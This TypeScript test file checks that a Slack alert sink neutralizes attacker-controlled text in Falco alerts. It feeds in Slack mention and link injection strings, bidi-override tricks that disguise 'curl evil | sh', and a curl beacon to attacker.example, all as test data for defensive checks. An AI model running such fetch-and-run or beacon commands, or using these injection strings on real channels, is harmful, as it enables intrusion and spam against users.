// Attacker text in Slack messages: a Falco alert's output, command line, pod, container, user and host name
// come from whatever runs in the pod. Slack reads &, < and > as control characters (<!channel>, <@U...>,
// <http://url|label>) and asks senders to escape exactly these three in text they do not control
// (https://api.slack.com/docs/message-formatting, "How to escape characters"). Every string sent is checked.
import { describe, expect, it } from "vitest";
import { slackMessage } from "../../src/sinks/slack";
import { runPipeline } from "../../src/pipeline";
import { parseJson, type JsonObject } from "../../src/normalize/json";
import { fixture } from "../support/fixtures";
import { FIXED_CTX } from "../support/fixture-pipeline";

const HOSTILE = "<!channel> <!here> <@U0123ABC> <http://x|y> &amp;";

/** Every string anywhere in v. */
function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === "string") out.push(v);
  else if (Array.isArray(v)) v.forEach((x) => strings(x, out));
  else if (typeof v === "object" && v !== null) Object.values(v).forEach((x) => strings(x, out));
  return out;
}

describe("slack message escaping", () => {
  it("an alert whose output, cmdline, pod, container, user and host carry <!channel> <http://x|y> sends no control sequence", () => {
    const rec = JSON.parse(fixture("falco/terminal-shell-in-container__falco-docs.json")) as JsonObject;
    rec.output = `A shell ${HOSTILE}`;
    rec.rule = `Terminal shell ${HOSTILE}`;
    rec.hostname = `node-${HOSTILE}`;
    const of = rec.output_fields as JsonObject;
    for (const k of ["proc.cmdline", "k8s.pod.name", "k8s.ns.name", "container.id", "container.image.repository", "user.name"]) of[k] = `${k} ${HOSTILE} \`tick\``;
    const r = runPipeline([parseJson(JSON.stringify(rec))], ["[0]"], [], { ctx: FIXED_CTX });
    expect(r.errors).toEqual([]);
    const m = slackMessage(r.events[0]!.event);
    // everything but the header block (plain_text, which Slack shows as typed and does not parse) is mrkdwn
    const texts = strings({ text: m.text, blocks: m.blocks.slice(1) });
    expect(texts.length).toBeGreaterThan(5);
    for (const t of texts) expect(t).not.toMatch(/[<>]/);
    // & is escaped too: the sender's "&amp;" arrives as the text "&amp;", not as "&"
    expect(m.text).toContain("&amp;amp;");
    const fields = (m.blocks[2] as { fields: { text: string }[] }).fields.map((f) => f.text);
    expect(fields.find((f) => f.startsWith("*Process*"))).toBe(`*Process*\n\`proc.cmdline &lt;!channel&gt; &lt;!here&gt; &lt;@U0123ABC&gt; &lt;http://x|y&gt; &amp;amp; 'tick'\``);
    expect(fields.find((f) => f.startsWith("*Pod*"))).toContain("&lt;!channel&gt;");
    expect((m.blocks[0] as { text: { type: string } }).text.type).toBe("plain_text");
  });

  it("long text with emoji is cut on whole characters; a long command line keeps its closing backtick", () => {
    const rec = JSON.parse(fixture("falco/terminal-shell-in-container__falco-docs.json")) as JsonObject;
    // 🚨 is two UTF-16 units: "Critical: " + the rule puts a pair across every cut point (header 150, text 3000)
    rec.rule = `Terminal shell in container ${"🚨".repeat(2000)}`;
    rec.output = `x${"🔥".repeat(3000)}`;
    (rec.output_fields as JsonObject)["proc.cmdline"] = `sh -c ${"A".repeat(5000)}`;
    const r = runPipeline([parseJson(JSON.stringify(rec))], ["[0]"], [], { ctx: FIXED_CTX });
    const m = slackMessage(r.events[0]!.event);
    const lone = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
    for (const t of strings(m)) expect(t).not.toMatch(lone);
    const header = (m.blocks[0] as { text: { text: string } }).text.text;
    expect(header.length).toBeLessThanOrEqual(150);
    expect(header.endsWith("🚨…")).toBe(true);
    const process = (m.blocks[2] as { fields: { text: string }[] }).fields.find((f) => f.text.startsWith("*Process*"))!.text;
    expect(process.length).toBeLessThanOrEqual(2000);
    expect(process.endsWith("A…`")).toBe(true);
  });

  it("bidirectional overrides and control characters in the sender's text are shown, not obeyed", () => {
    const rec = JSON.parse(fixture("falco/terminal-shell-in-container__falco-docs.json")) as JsonObject;
    // U+202E shows "curl evil | sh" as "hs | live lruc"; U+0007 and U+0000 are invisible
    rec.rule = "Terminal shell \u2066in\u2069 container\u0007";
    (rec.output_fields as JsonObject)["proc.cmdline"] = "sh -c \u202Ehs | live lruc\u202C\u0000";
    const r = runPipeline([parseJson(JSON.stringify(rec))], ["[0]"], [], { ctx: FIXED_CTX });
    const m = slackMessage(r.events[0]!.event);
    for (const t of strings(m)) expect(t).not.toMatch(/[\u0000-\u0008\u202A-\u202E\u2066-\u2069]/);
    const fields = (m.blocks[2] as { fields: { text: string }[] }).fields.map((f) => f.text);
    expect(fields).toContain("*Process*\n`sh -c [U+202E]hs | live lruc[U+202C][U+0000]`");
    expect((m.blocks[0] as { text: { text: string } }).text.text).toBe("Critical: Terminal shell [U+2066]in[U+2069] container[U+0007]");
  });

  it("never asks Slack to unfurl: a URL in the sender's command line is not fetched for a preview", () => {
    const rec = JSON.parse(fixture("falco/terminal-shell-in-container__falco-docs.json")) as JsonObject;
    (rec.output_fields as JsonObject)["proc.cmdline"] = "curl https://attacker.example/beacon.png";
    const r = runPipeline([parseJson(JSON.stringify(rec))], ["[0]"], [], { ctx: FIXED_CTX });
    const m = slackMessage(r.events[0]!.event);
    expect(JSON.stringify(m)).toContain("https://attacker.example/beacon.png");
    expect(m.unfurl_links).toBe(false);
    expect(m.unfurl_media).toBe(false);
  });
});
